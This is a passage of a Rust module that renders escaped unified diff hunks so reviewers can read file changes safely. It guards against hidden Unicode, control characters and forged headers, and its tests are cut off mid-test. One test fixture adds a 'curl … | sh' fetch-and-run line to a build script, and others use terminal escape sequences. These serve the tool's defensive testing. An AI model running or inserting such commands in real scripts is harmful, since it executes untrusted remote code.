//! Unified text hunks of a diff, for human review.
//!
//! The canonical diff is structural (states and digests). Reviewers also want to
//! read what changed, so for text files within a size bound this module renders
//! unified hunks with three lines of context. Binary content, files over the
//! bound, and files beyond the total bound are listed with the reason they have no
//! hunks, never silently skipped.

use similar::TextDiff;
use std::fmt::Write as _;
use vsh_host::CapDir;
use vsh_types::{BlobId, DiffEntry, NodeKind, NodeState, VPath};

use crate::{ContentSource, VfsError, VirtualFs};

/// The live bytes of the file at `path` in `workspace`, if they still are the
/// file `state` describes (its content digest, or for a file deleted unread
/// its stamp, size and mode, checked on a read the host saw stable): for
/// showing a reviewer a before-state from the disk only when the disk still
/// holds it. Read through the handle without following any symlink and
/// bounded by `state`'s size; `None` when the file changed, went, is not a
/// file, or cannot be read.
pub fn live_content_if_unchanged(workspace: &CapDir, path: &VPath, state: &NodeState) -> Option<Vec<u8>> {
    if state.kind != NodeKind::File {
        return None;
    }
    let read = workspace.read_file(path, state.size).ok()?;
    let unchanged = match (state.content, state.stamp) {
        (Some(expected), _) => BlobId::of(&read.bytes) == expected,
        (None, Some(stamp)) => {
            read.stat.file_stamp() == Some(stamp) && read.stat.size == state.size && read.stat.mode == state.mode
        }
        (None, None) => false,
    };
    unchanged.then_some(read.bytes)
}

/// Bounds on the text rendered for review.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ReviewLimits {
    /// Largest before or after side of one file that gets hunks (default 128 KiB).
    pub max_file_bytes: u64,
    /// Total bytes of hunks shown for one diff (default 1 MiB): what a
    /// reviewer reads, so a change of a few lines in many files is shown
    /// whole. The content read to make them is bounded too, at
    /// [`READ_PER_SHOWN`] times this.
    pub max_total_bytes: u64,
}

/// How many bytes of content a review may read for each byte of hunks it
/// may show ([`ReviewLimits::max_total_bytes`]): a few changed lines of a
/// large file cost the whole file to find.
pub const READ_PER_SHOWN: u64 = 16;

impl Default for ReviewLimits {
    fn default() -> Self {
        Self { max_file_bytes: 128 << 10, max_total_bytes: 1 << 20 }
    }
}

/// Why a changed file has no hunks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum NoHunks {
    /// The change is not to a file's content or a symlink's target (a
    /// directory, a mode).
    NotFileContent,
    /// One side is binary: more than a few of its bytes are not valid UTF-8
    /// (a text file with a stray byte gets hunks, the byte escaped).
    Binary,
    /// One side is larger than [`ReviewLimits::max_file_bytes`].
    TooLarge,
    /// The diff's review budget was spent: the hunks shown reached
    /// [`ReviewLimits::max_total_bytes`], or the content read to make them
    /// [`READ_PER_SHOWN`] times that.
    BudgetSpent,
    /// The before state is no longer what the workspace holds, so its bytes
    /// are not shown (only hash-verified bytes are).
    Unavailable,
    /// The policy protects the file's content from reading.
    Protected,
    /// The file was deleted as the source of a rename: the review of the
    /// path it moved to shows its change (`rename from` names this path).
    Renamed,
}

/// Which side of a change [`review_entries`] asks the content of.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Side {
    /// The before state.
    Before,
    /// The after state.
    After,
}

/// The review text of one changed path.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileReview {
    /// The changed path.
    pub path: VPath,
    /// Unified hunks (with `--- a/…` and `+++ b/…` headers), or why there are none.
    pub hunks: Result<String, NoHunks>,
}

/// Whether `c` can change how a reviewer reads the text around it without
/// showing itself: a bidirectional control (the overrides, embeddings,
/// isolates and marks, U+061C among them), a zero-width character (U+200B
/// to U+200D, U+2060, U+FEFF), a line or paragraph separator (U+2028,
/// U+2029), another format character (the soft hyphen, the invisible
/// operators, the tag characters U+E0000 to U+E0FFF and the like) or a
/// filler that draws nothing (U+3164, U+FFA0). Every review escapes them, as
/// it does control characters. (Variation selectors are left: emoji use them.)
pub fn hides_text(c: char) -> bool {
    // Unicode's format characters (category Cf) and the separators that
    // draw nothing (sec79 F3: a tag character hid in a path's line).
    matches!(
        c,
        '\u{00ad}'
            | '\u{034f}'
            | '\u{061c}'
            | '\u{115f}'..='\u{1160}'
            | '\u{17b4}'..='\u{17b5}'
            | '\u{180e}'
            | '\u{200b}'..='\u{200f}'
            | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}'
            | '\u{3164}'
            | '\u{feff}'
            | '\u{ffa0}'
            | '\u{fff0}'..='\u{fffb}'
            | '\u{1bca0}'..='\u{1bca3}'
            | '\u{1d173}'..='\u{1d17a}'
            | '\u{e0000}'..='\u{e0fff}'
    )
}

/// Render unified hunks between two texts; `None` side means the file is absent.
pub fn unified_hunks(path: &VPath, before: Option<&str>, after: Option<&str>) -> String {
    let old_name = if before.is_some() { header_name("a/", path) } else { "/dev/null".to_owned() };
    let new_name = if after.is_some() { header_name("b/", path) } else { "/dev/null".to_owned() };
    let diff = TextDiff::from_lines(before.unwrap_or(""), after.unwrap_or(""));
    rows_ended(diff.unified_diff().context_radius(3).header(&old_name, &new_name).to_string())
}

/// `hunks` with a newline after each carriage return that ends a line on
/// its own (the diff splits lines there too): each line of the diff is a
/// row of its own where the review is shown, its `\r` escaped, never two
/// lines on one row under a header that counts them as two (sec80 F5).
fn rows_ended(hunks: String) -> String {
    if !hunks.contains('\r') {
        return hunks;
    }
    let mut rows = String::with_capacity(hunks.len() + 8);
    let mut chars = hunks.chars().peekable();
    while let Some(c) = chars.next() {
        rows.push(c);
        if c == '\r' && chars.peek() != Some(&'\n') {
            rows.push('\n');
        }
    }
    rows
}

/// The review of a rename from `from` to `to`: `rename from` and `rename
/// to` lines, as git writes them, then the hunks between the file's old
/// text and its new one (none when the bytes are the same).
fn rename_hunks(from: &VPath, to: &VPath, before: &[u8], after: &[u8]) -> Option<String> {
    let mut text = format!("rename from {}\nrename to {}\n", header_name("", from), header_name("", to));
    if before == after {
        return Some(text);
    }
    let (Some((Some(old), old_escaped)), Some((Some(new), new_escaped))) =
        (side_text(Some(&before), None, true), side_text(Some(&after), None, true))
    else {
        return None;
    };
    let diff = TextDiff::from_lines(old.as_ref(), new.as_ref());
    let hunks =
        diff.unified_diff().context_radius(3).header(&header_name("a/", from), &header_name("b/", to)).to_string();
    text.push_str(&rows_ended(hunks));
    if old_escaped || new_escaped {
        text.push_str(ESCAPED_NOTE);
    }
    Some(text)
}

/// How similar a deleted file's bytes and a created file's must be for the
/// two to be reviewed as one file renamed (git's default is 50%).
const MIN_RENAME_SIMILARITY: f32 = 0.5;
/// The most deleted files one created file is compared with, and the most
/// comparisons one review makes: pairing is a reviewer's aid, bounded.
const MAX_RENAME_CANDIDATES: usize = 8;
const MAX_RENAME_COMPARISONS: usize = 512;

/// A created file paired with the deleted file it was renamed from.
struct Renamed<B> {
    /// The deleted entry's index.
    from: usize,
    before: B,
    after: B,
}

/// How alike two files' bytes are, from 0 to 1: 1 for the same bytes, the
/// share of lines alike for two texts, 0 otherwise.
fn similarity(before: &[u8], after: &[u8]) -> f32 {
    if before == after {
        return 1.0;
    }
    match (std::str::from_utf8(before), std::str::from_utf8(after)) {
        (Ok(old), Ok(new)) if is_text(before) && is_text(after) => TextDiff::from_lines(old, new).ratio(),
        _ => 0.0,
    }
}

/// Pair each created file (of `entries`, within `limits`) with a deleted
/// file in the same directory or of the same name whose bytes it mostly
/// keeps, the most alike first: a rename, or a rename with an edit, is
/// reviewed as one change instead of two whole files. Every byte compared
/// comes from `content`, which refuses what the reader may not read, and
/// counts against `read` within `max_read`.
fn pair_renames<B: AsRef<[u8]>, E>(
    entries: &[DiffEntry],
    wanted: &dyn Fn(usize) -> bool,
    limits: ReviewLimits,
    max_read: u64,
    read: &mut u64,
    content: &mut impl FnMut(&DiffEntry, Side) -> Result<Result<B, NoHunks>, E>,
) -> Result<std::collections::HashMap<usize, Renamed<B>>, E> {
    let small_file = |state: Option<NodeState>| {
        state.is_some_and(|state| state.kind == NodeKind::File && state.size <= limits.max_file_bytes)
    };
    let deleted: Vec<usize> = (0..entries.len())
        .filter(|&index| small_file(entries[index].before) && entries[index].after.is_none())
        .collect();
    let mut paired = std::collections::HashMap::new();
    if deleted.is_empty() {
        return Ok(paired);
    }
    let related = |from: &VPath, to: &VPath| from.parent() == to.parent() || from.file_name() == to.file_name();
    let mut befores: std::collections::HashMap<usize, Option<B>> = std::collections::HashMap::new();
    let mut taken = std::collections::HashSet::new();
    let mut comparisons = 0;
    for (index, entry) in entries.iter().enumerate() {
        if entry.before.is_some() || !small_file(entry.after) || comparisons >= MAX_RENAME_COMPARISONS {
            continue;
        }
        let candidates: Vec<usize> = deleted
            .iter()
            .copied()
            .filter(|from| !taken.contains(from) && related(&entries[*from].path, &entry.path))
            .take(MAX_RENAME_CANDIDATES)
            .collect();
        // Only pairs a review shows are worth reading for.
        if !wanted(index) && !candidates.iter().any(|from| wanted(*from)) {
            continue;
        }
        let size = entry.after.map_or(0, |state| state.size);
        if candidates.is_empty() || read.saturating_add(size) > max_read {
            continue;
        }
        *read += size;
        let Ok(after) = content(entry, Side::After)? else { continue };
        let mut best: Option<(usize, f32)> = None;
        for from in candidates {
            comparisons += 1;
            if let std::collections::hash_map::Entry::Vacant(vacant) = befores.entry(from) {
                let size = entries[from].before.map_or(0, |state| state.size);
                if read.saturating_add(size) > max_read {
                    break;
                }
                *read += size;
                vacant.insert(content(&entries[from], Side::Before)?.ok());
            }
            let Some(Some(before)) = befores.get(&from) else { continue };
            let score = similarity(before.as_ref(), after.as_ref());
            if score >= MIN_RENAME_SIMILARITY && best.is_none_or(|(_, known)| score > known) {
                best = Some((from, score));
            }
            if score >= 1.0 {
                break;
            }
        }
        if let Some((from, _)) = best
            && let Some(Some(before)) = befores.remove(&from)
        {
            taken.insert(from);
            paired.insert(index, Renamed { from, before, after });
        }
    }
    Ok(paired)
}

/// `prefix` and `path` as a unified diff's header names them, quoted as git
/// quotes a name that would break the header (`"a/new\nline"`): a name with
/// a control character, a bidirectional override, `"` or `\\` is written in
/// double quotes with `\\n`, `\\t`, `\\"`, `\\\\` and every other such
/// character's UTF-8 bytes in octal (`\\033`), so no name can end the header
/// line or forge the lines after it.
fn header_name(prefix: &str, path: &VPath) -> String {
    let plain = |c: char| !(c.is_control() || hides_text(c) || c == '"' || c == '\\');
    if path.as_str().chars().all(plain) {
        return format!("{prefix}{path}");
    }
    let mut quoted = format!("\"{prefix}");
    for c in path.as_str().chars() {
        match c {
            '\n' => quoted.push_str("\\n"),
            '\t' => quoted.push_str("\\t"),
            '"' => quoted.push_str("\\\""),
            '\\' => quoted.push_str("\\\\"),
            c if plain(c) => quoted.push(c),
            c => {
                let mut bytes = [0; 4];
                for byte in c.encode_utf8(&mut bytes).bytes() {
                    let _ = write!(quoted, "\\{byte:03o}");
                }
            }
        }
    }
    quoted.push('"');
    quoted
}

/// A symlink's side of a review: one line naming where it points, the target
/// escaped (a control character, a bidirectional override, `\\` and a byte
/// that is not UTF-8 each in octal, as `\ooo`), so a reviewer reads exactly
/// the bytes the commit writes and no target can forge a line.
fn link_line(target: &[u8]) -> String {
    let mut line = String::from("symlink -> ");
    for chunk in target.utf8_chunks() {
        for c in chunk.valid().chars() {
            if c.is_control() || hides_text(c) || c == '\\' {
                let mut bytes = [0; 4];
                for byte in c.encode_utf8(&mut bytes).bytes() {
                    let _ = write!(line, "\\{byte:03o}");
                }
            } else {
                line.push(c);
            }
        }
        for byte in chunk.invalid() {
            let _ = write!(line, "\\{byte:03o}");
        }
    }
    line.push('\n');
    line
}

/// At most this many bytes of a side may be invalid UTF-8 for it to be shown
/// as text (each escaped), and at most one in this many: a text file with a
/// stray byte is still read as text, an image is still binary.
const MAX_ESCAPED_BYTES: usize = 256;
const ESCAPED_BYTES_PER: usize = 8;

/// The note a review carries when a side's invalid bytes are escaped.
const ESCAPED_NOTE: &str =
    "\\ bytes that are not UTF-8 and control characters are shown as \\ooo (octal), a backslash as \\134\n";

/// Whether a file's bytes are text as they are: UTF-8 with no NUL.
fn is_text(bytes: &[u8]) -> bool {
    !bytes.contains(&0) && std::str::from_utf8(bytes).is_ok()
}

/// One side of a change as review text: a symlink's line naming its target,
/// a file's text (a text file with a few bytes that are not UTF-8 has each
/// shown as `\ooo`, and says so: the second value), or `None` for a file
/// that is binary.
fn side_text<B: AsRef<[u8]>>(
    bytes: Option<&B>,
    state: Option<vsh_types::NodeState>,
    other_was_text: bool,
) -> Option<(Option<std::borrow::Cow<'_, str>>, bool)> {
    let Some(bytes) = bytes else { return Some((None, false)) };
    let bytes = bytes.as_ref();
    if state.is_some_and(|s| s.kind == NodeKind::Symlink) {
        return Some((Some(std::borrow::Cow::Owned(link_line(bytes))), false));
    }
    if is_text(bytes) {
        return std::str::from_utf8(bytes).ok().map(|text| (Some(std::borrow::Cow::Borrowed(text)), false));
    }
    // A file whose other side was text is shown as text whatever it holds
    // now (a text file turned binary is exactly what a reviewer must read);
    // else only with a few stray bytes and no NUL (a NUL makes a file binary,
    // as git judges it: an object file is mostly valid UTF-8).
    let invalid: usize = bytes.utf8_chunks().map(|chunk| chunk.invalid().len()).sum();
    if !other_was_text
        && (bytes.contains(&0)
            || invalid > MAX_ESCAPED_BYTES
            || invalid.saturating_mul(ESCAPED_BYTES_PER) > bytes.len())
    {
        return None;
    }
    // Each byte that is not UTF-8 and each control character but a newline
    // or a tab in octal, and a backslash as `\134`, so an escape in the text
    // cannot pass for a byte or the reverse, and no review of such a file
    // carries a raw control character to a terminal or an agent.
    let mut text = String::with_capacity(bytes.len() + invalid * 3);
    for chunk in bytes.utf8_chunks() {
        for c in chunk.valid().chars() {
            if c == '\\' {
                text.push_str("\\134");
            } else if c.is_control() && c != '\n' && c != '\t' {
                let mut utf8 = [0u8; 4];
                for byte in c.encode_utf8(&mut utf8).bytes() {
                    let _ = write!(text, "\\{byte:03o}");
                }
            } else {
                text.push(c);
            }
        }
        for byte in chunk.invalid() {
            let _ = write!(text, "\\{byte:03o}");
        }
    }
    Some((Some(std::borrow::Cow::Owned(text)), true))
}

/// Review text for every content change in `entries` (a file's bytes, or
/// where a symlink points), within `limits`, with each side's bytes from
/// `content` (asked only for a side that exists, within the bounds; for a
/// symlink, its target): the bytes, or why a side cannot be shown.
pub fn review_entries<B: AsRef<[u8]>, E>(
    entries: &[DiffEntry],
    limits: ReviewLimits,
    content: impl FnMut(&DiffEntry, Side) -> Result<Result<B, NoHunks>, E>,
) -> Result<Vec<FileReview>, E> {
    review_entries_of(entries, &|_| true, limits, content)
}

/// [`review_entries`] of the entries `wanted` names only (by index into
/// `entries`), in order: a rename is paired against every entry, so a path
/// asked for alone that a rename made or left is still shown as that rename
/// (ux61 8: its new path alone was a whole new file).
pub fn review_entries_of<B: AsRef<[u8]>, E>(
    entries: &[DiffEntry],
    wanted: &dyn Fn(usize) -> bool,
    limits: ReviewLimits,
    mut content: impl FnMut(&DiffEntry, Side) -> Result<Result<B, NoHunks>, E>,
) -> Result<Vec<FileReview>, E> {
    let (mut shown, mut read) = (0u64, 0u64);
    let max_read = limits.max_total_bytes.saturating_mul(READ_PER_SHOWN);
    let renamed = pair_renames(entries, wanted, limits, max_read, &mut read, &mut content)?;
    let renamed_away: std::collections::HashSet<usize> = renamed.values().map(|renamed| renamed.from).collect();
    let mut out = Vec::new();
    for (index, entry) in entries.iter().enumerate() {
        if !wanted(index) {
            continue;
        }
        if renamed_away.contains(&index) {
            out.push(FileReview { path: entry.path.clone(), hunks: Err(NoHunks::Renamed) });
            continue;
        }
        if let Some(pair) = renamed.get(&index) {
            let hunks =
                match rename_hunks(&entries[pair.from].path, &entry.path, pair.before.as_ref(), pair.after.as_ref()) {
                    Some(text) if shown.saturating_add(text.len() as u64) > limits.max_total_bytes => {
                        Err(NoHunks::BudgetSpent)
                    }
                    Some(text) => {
                        shown += text.len() as u64;
                        Ok(text)
                    }
                    None => Err(NoHunks::Binary),
                };
            out.push(FileReview { path: entry.path.clone(), hunks });
            continue;
        }
        // A directory has no content to show: a side that is one counts as
        // absent, so a directory replaced by a symlink shows where it points.
        let (before_state, after_state) = (
            entry.before.filter(|s| s.kind != NodeKind::Directory),
            entry.after.filter(|s| s.kind != NodeKind::Directory),
        );
        let content_changed =
            entry.before.map(|s| (s.kind, s.content, s.stamp)) != entry.after.map(|s| (s.kind, s.content, s.stamp));
        if (before_state.is_none() && after_state.is_none()) || !content_changed {
            out.push(FileReview { path: entry.path.clone(), hunks: Err(NoHunks::NotFileContent) });
            continue;
        }
        let sizes = before_state.map_or(0, |s| s.size) + after_state.map_or(0, |s| s.size);
        let hunks = if before_state.is_some_and(|s| s.size > limits.max_file_bytes)
            || after_state.is_some_and(|s| s.size > limits.max_file_bytes)
        {
            Err(NoHunks::TooLarge)
        } else if shown >= limits.max_total_bytes || read.saturating_add(sizes) > max_read {
            Err(NoHunks::BudgetSpent)
        } else {
            read += sizes;
            let mut side = |present: bool, side: Side| -> Result<Result<Option<B>, NoHunks>, E> {
                if !present {
                    return Ok(Ok(None));
                }
                Ok(content(entry, side)?.map(Some))
            };
            let before = side(before_state.is_some(), Side::Before)?;
            let after = side(after_state.is_some(), Side::After)?;
            match (before, after) {
                (Ok(before), Ok(after)) => {
                    let side_is_text = |bytes: &Option<B>| bytes.as_ref().is_some_and(|bytes| is_text(bytes.as_ref()));
                    let (before_text, after_text) = (side_is_text(&before), side_is_text(&after));
                    match (
                        side_text(before.as_ref(), before_state, after_text),
                        side_text(after.as_ref(), after_state, before_text),
                    ) {
                        (Some((old, old_escaped)), Some((new, new_escaped))) => {
                            let mut hunks = unified_hunks(&entry.path, old.as_deref(), new.as_deref());
                            if old_escaped || new_escaped {
                                hunks.push_str(ESCAPED_NOTE);
                            }
                            Ok(hunks)
                        }
                        _ => Err(NoHunks::Binary),
                    }
                }
                (Err(reason), _) | (_, Err(reason)) => Err(reason),
            }
        };
        // Hunks past what is left of the budget are left out whole (a
        // smaller file's after them may still fit).
        let hunks = match hunks {
            Ok(text) if shown.saturating_add(text.len() as u64) > limits.max_total_bytes => Err(NoHunks::BudgetSpent),
            Ok(text) => {
                shown += text.len() as u64;
                Ok(text)
            }
            other => other,
        };
        out.push(FileReview { path: entry.path.clone(), hunks });
    }
    Ok(out)
}

impl VirtualFs {
    /// Review text for every file-content change in `entries`, within `limits`.
    /// Reading before-content for review records a content dependency on paths
    /// whose before-state the commit checks anyway. A path `unreadable` names
    /// (one the policy protects from reading) never has its content shown,
    /// before or after ([`NoHunks::Protected`]): a run may delete or overwrite
    /// a file it may not read, and its receipt must not read it for it; what
    /// a run writes there is that file's content to whoever reads a review.
    pub fn review(
        &mut self,
        entries: &[DiffEntry],
        limits: ReviewLimits,
        unreadable: &dyn Fn(&VPath) -> bool,
    ) -> Result<Vec<FileReview>, VfsError> {
        review_entries(entries, limits, |entry, side| {
            if unreadable(&entry.path) {
                return Ok(Err(NoHunks::Protected));
            }
            if side == Side::After && entry.after.is_some_and(|state| state.kind == NodeKind::Symlink) {
                return self.read_link(&entry.path).map(Ok);
            }
            let source = match side {
                Side::Before => ContentSource::Base(entry.path.clone()),
                Side::After => match self.content_source(&entry.path)? {
                    Some(source) => source,
                    None => return Ok(Err(NoHunks::Unavailable)),
                },
            };
            self.materialize(&source).map(Ok)
        })
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn characters_that_draw_nothing_are_told_from_those_that_do() {
        for hidden in ['\u{202e}', '\u{200b}', '\u{00ad}', '\u{2064}', '\u{e0001}', '\u{e007f}', '\u{3164}', '\u{fffb}']
        {
            assert!(hides_text(hidden), "{:x}", u32::from(hidden));
        }
        for shown in ['a', 'é', '数', '\u{fe0f}', '\u{1f600}', ' '] {
            assert!(!hides_text(shown), "{:x}", u32::from(shown));
        }
    }

    use std::sync::Arc;

    use super::*;
    use crate::SnapshotLimits;

    #[test]
    fn a_name_that_would_break_the_header_is_quoted_as_git_quotes_it() {
        let header = |name: &str| {
            let path = VPath::parse(name).unwrap();
            unified_hunks(&path, None, Some("x\n")).lines().nth(1).unwrap().to_owned()
        };
        assert_eq!(header("plain name.txt"), "+++ b/plain name.txt");
        assert_eq!(header("ok.txt\n  create innocent.txt"), "+++ \"b/ok.txt\\n  create innocent.txt\"");
        assert_eq!(header("tab\there"), "+++ \"b/tab\\there\"");
        assert_eq!(header("say \"hi\""), "+++ \"b/say \\\"hi\\\"\"");
        assert_eq!(header("back\\slash"), "+++ \"b/back\\\\slash\"");
        assert_eq!(header("esc\u{1b}[2J"), "+++ \"b/esc\\033[2J\"");
        assert_eq!(header("cr\rx"), "+++ \"b/cr\\015x\"");
        assert_eq!(header("abc\u{202e}txt"), "+++ \"b/abc\\342\\200\\256txt\"");
        assert_eq!(header("café"), "+++ b/café");
        assert_eq!(header("zero\u{200b}width"), "+++ \"b/zero\\342\\200\\213width\"");
        assert_eq!(header("line\u{2028}sep"), "+++ \"b/line\\342\\200\\250sep\"");
        assert_eq!(header("mark\u{61c}x"), "+++ \"b/mark\\330\\234x\"");
        // Every header is one line: the hunk follows on the third.
        assert!(
            unified_hunks(&VPath::parse("a\nb").unwrap(), None, Some("x\n")).lines().nth(2).unwrap().starts_with("@@")
        );
    }

    #[test]
    fn a_line_ended_by_a_carriage_return_is_a_row_of_its_own() {
        let path = VPath::parse("t.txt").unwrap();
        let hunks = unified_hunks(&path, None, Some("a\x1b[31mb\r\x1b[Kc\nd\r\n"));
        let rows: Vec<&str> = hunks.split('\n').skip(3).filter(|row| !row.is_empty()).collect();
        assert_eq!(rows, ["+a\x1b[31mb\r", "+\x1b[Kc", "+d\r"], "{hunks:?}");
        assert!(hunks.contains("@@ -0,0 +1,3 @@"), "{hunks:?}");
        assert!(!hunks.contains("\r\n\n"), "a CRLF line stays one: {hunks:?}");
    }

    #[test]
    fn hunks_for_text_and_reasons_for_the_rest() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("a.txt"), "one\ntwo\nthree\n").unwrap();
        std::fs::write(dir.path().join("bin"), [0xff, 0xfe, 0]).unwrap();
        std::fs::write(dir.path().join("gone.txt"), "bye\n").unwrap();
        let host = Arc::new(vsh_host::CapDir::open(dir.path()).unwrap());
        let mut vfs = VirtualFs::new(host, vec![], SnapshotLimits::default());
        let p = |s: &str| VPath::parse(s).unwrap();
        vfs.write(&p("a.txt"), Arc::from(&b"one\n2\nthree\n"[..])).unwrap();
        vfs.write(&p("bin"), Arc::from(&[0xff, 0x00][..])).unwrap();
        vfs.unlink(&p("gone.txt")).unwrap();
        vfs.write(&p("new.txt"), Arc::from(&b"fresh\n"[..])).unwrap();
        vfs.mkdir(&p("d"), 0o755).unwrap();
        let diff = vfs.canonical_diff().unwrap();
        let review = vfs.review(diff.entries(), ReviewLimits::default(), &|_| false).unwrap();
        let by_path = |name: &str| review.iter().find(|r| r.path.as_str() == name).unwrap().hunks.clone();
        assert_eq!(by_path("a.txt").unwrap(), "--- a/a.txt\n+++ b/a.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+2\n three\n");
        assert_eq!(by_path("bin"), Err(NoHunks::Binary));
        assert_eq!(by_path("gone.txt").unwrap(), "--- a/gone.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\n");
        assert_eq!(by_path("new.txt").unwrap(), "--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+fresh\n");
        assert_eq!(by_path("d"), Err(NoHunks::NotFileContent));
        let tight = vfs
            .review(diff.entries(), ReviewLimits { max_file_bytes: 8, max_total_bytes: 1 << 20 }, &|_| false)
            .unwrap();
        assert_eq!(tight.iter().find(|r| r.path.as_str() == "a.txt").unwrap().hunks, Err(NoHunks::TooLarge));
        let spent =
            vfs.review(diff.entries(), ReviewLimits { max_file_bytes: 1024, max_total_bytes: 30 }, &|_| false).unwrap();
        assert_eq!(spent.iter().find(|r| r.path.as_str() == "new.txt").unwrap().hunks, Err(NoHunks::BudgetSpent));
    }

    /// The budget counts the hunks shown, not the files' sizes: a one-line
    /// change in each of 60 files of 40 KB (2.4 MB read) is shown whole
    /// within 1 MiB; the content read is bounded too, at 16 times that.
    #[test]
    fn the_review_budget_counts_the_hunks_shown_and_bounds_what_is_read() {
        let dir = tempfile::tempdir().unwrap();
        let body = (0..4000).fold(String::new(), |mut body, line| {
            let _ = writeln!(body, "line {line}");
            body
        });
        for file in 0..60 {
            std::fs::write(dir.path().join(format!("f{file:02}.txt")), &body).unwrap();
        }
        let host = Arc::new(vsh_host::CapDir::open(dir.path()).unwrap());
        let mut vfs = VirtualFs::new(host, vec![], SnapshotLimits::default());
        for file in 0..60 {
            let path = VPath::parse(&format!("f{file:02}.txt")).unwrap();
            vfs.write(&path, Arc::from(body.replace("line 7\n", "LINE 7\n").into_bytes())).unwrap();
        }
        let diff = vfs.canonical_diff().unwrap();
        let review = vfs.review(diff.entries(), ReviewLimits::default(), &|_| false).unwrap();
        assert!(review.iter().all(|file| file.hunks.as_ref().is_ok_and(|hunks| hunks.contains("+LINE 7"))));
        // 64 KiB of hunks at most: 1 MiB read, 12 of the files.
        let limits = ReviewLimits { max_file_bytes: 128 << 10, max_total_bytes: 64 << 10 };
        let review = vfs.review(diff.entries(), limits, &|_| false).unwrap();
        let shown = review.iter().filter(|file| file.hunks.is_ok()).count();
        assert_eq!(shown, (16 * (64 << 10)) / (2 * body.len()), "{shown}");
        assert!(review[shown..].iter().all(|file| file.hunks == Err(NoHunks::BudgetSpent)));
    }

    /// An image over a workspace holding a two-line `build.sh`.
    fn image_with_script() -> (tempfile::TempDir, VirtualFs) {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("build.sh"), "#!/bin/sh\necho building\n").unwrap();
        let host = Arc::new(vsh_host::CapDir::open(dir.path()).unwrap());
        let vfs = VirtualFs::new(host, vec![], SnapshotLimits::default());
        (dir, vfs)
    }

    #[test]
    fn a_text_file_with_a_stray_byte_is_reviewed_as_text_with_the_byte_escaped() {
        let (_dir, mut vfs) = image_with_script();
        let p = |s: &str| VPath::parse(s).unwrap();
        let script = b"#!/bin/sh\necho building\ncurl -s https://x.example/i | sh # \xff\n";
        vfs.write(&p("build.sh"), Arc::from(&script[..])).unwrap();
        // Mostly bytes that are not UTF-8: binary still.
        vfs.write(&p("image.bin"), Arc::from(&[0xff_u8, 0xfe, 0x80, b'a'][..])).unwrap();
        let diff = vfs.canonical_diff().unwrap();
        let review = vfs.review(diff.entries(), ReviewLimits::default(), &|_| false).unwrap();
        let by_path = |name: &str| review.iter().find(|r| r.path.as_str() == name).unwrap().hunks.clone();
        assert_eq!(
            by_path("build.sh").unwrap(),
            "--- a/build.sh\n+++ b/build.sh\n@@ -1,2 +1,3 @@\n #!/bin/sh\n echo building\n\
             +curl -s https://x.example/i | sh # \\377\n\\ bytes that are not UTF-8 and control characters are \
             shown as \\ooo (octal), a backslash as \\134\n"
        );
        assert_eq!(by_path("image.bin"), Err(NoHunks::Binary));
    }

    #[test]
    fn a_file_holding_a_nul_is_binary_and_a_text_file_turned_so_shows_it_escaped() {
        let (_dir, mut vfs) = image_with_script();
        let p = |s: &str| VPath::parse(s).unwrap();
        // An object file's start: valid UTF-8 all through, NULs and DEL among it.
        let mut object = b"\x7fELF\x02\x01\x01".to_vec();
        object.extend(std::iter::repeat_n(0u8, 9));
        object.extend(b"\x01\0>\0\x01\0\0\0main\0calc.c\0");
        vfs.write(&p("calc.o"), Arc::from(&object[..])).unwrap();
        // One NUL in a script: the reviewer reads the script, the NUL escaped.
        vfs.write(&p("build.sh"), Arc::from(&b"#!/bin/sh\necho building\x1b[2J\0\n"[..])).unwrap();
        let diff = vfs.canonical_diff().unwrap();
        let review = vfs.review(diff.entries(), ReviewLimits::default(), &|_| false).unwrap();
        let by_path = |name: &str| review.iter().find(|r| r.path.as_str() == name).unwrap().hunks.clone();
        assert_eq!(by_path("calc.o"), Err(NoHunks::Binary));
        assert_eq!(
            by_path("build.sh").unwrap(),
            "--- a/build.sh\n+++ b/build.sh\n@@ -1,2 +1,2 @@\n #!/bin/sh\n-echo building\n+echo building\\033[2J\\000\n\
             \\ bytes that are not UTF-8 and control characters are shown as \\ooo (octal), a backslash as \\134\n"
        );
    }

    /// ux55 #2: a rename with a one-line edit was reviewed as two whole
    /// files of the same size, the edit hidden in them. A created file that
    /// mostly keeps a deleted file's lines (in its directory, or of its name)
    /// is reviewed as that file renamed: the edit alone in its hunks.
    #[test]
    fn a_rename_is_reviewed_as_one_change_and_its_edit_stands_out() {
        let dir = tempfile::tempdir().unwrap();
        let body = (0..12).fold(String::new(), |mut body, n| {
            let _ = write!(body, "def test_{n}():\n    assert total({n}) == {n}\n");
            body
        });
        std::fs::create_dir_all(dir.path().join("tests")).unwrap();
        std::fs::create_dir_all(dir.path().join("mod3")).unwrap();
        std::fs::write(dir.path().join("tests/test_basket.py"), &body).unwrap();
        std::fs::write(dir.path().join("mod3/f.txt"), "same\n").unwrap();
        std::fs::write(dir.path().join("mod3/image.bin"), [0xff_u8, 0, 1, 2]).unwrap();
        std::fs::write(dir.path().join("tests/other.py"), "x = 1\n").unwrap();
        std::fs::write(dir.path().join("gone.txt"), "nothing alike\n").unwrap();
        let host = Arc::new(vsh_host::CapDir::open(dir.path()).unwrap());
        let mut vfs = VirtualFs::new(host, vec![], SnapshotLimits::default());
        let p = |s: &str| VPath::parse(s).unwrap();
        vfs.unlink(&p("tests/test_basket.py")).unwrap();
        let edited = body.replace("total(7) == 7", "total(7) == 8");
        vfs.write(&p("tests/test_shop.py"), Arc::from(edited.as_bytes())).unwrap();
        // A directory moved: its files, the same bytes, are renames with no hunks (binary ones too).
        vfs.rename(&p("mod3"), &p("modthree")).unwrap();
        // A file made anew beside a deleted one it is nothing like: two changes.
        vfs.unlink(&p("gone.txt")).unwrap();
        vfs.write(&p("fresh.txt"), Arc::from(&b"brand new\n"[..])).unwrap();
        let diff = vfs.canonical_diff().unwrap();
        let review = vfs.review(diff.entries(), ReviewLimits::default(), &|_| false).unwrap();
